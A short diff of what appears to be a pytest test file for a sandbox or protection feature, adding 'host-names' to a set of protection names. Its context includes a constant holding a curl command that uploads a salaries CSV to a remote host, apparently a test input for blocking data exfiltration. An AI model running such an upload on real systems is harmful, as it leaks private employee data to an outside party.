@@ -13,7 +13,7 @@ from widgets import Screen
 
 UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"
 PROTECTIONS = {"labels", "interposition", "doppelgangers", "channels", "disclosure", "questions", "shadow-files", "lasting-rules",
-               "private-memory", "private-swap", "kernel-memory", "boot"}
+               "private-memory", "private-swap", "kernel-memory", "host-names", "boot"}
 
 
 @pytest.fixture
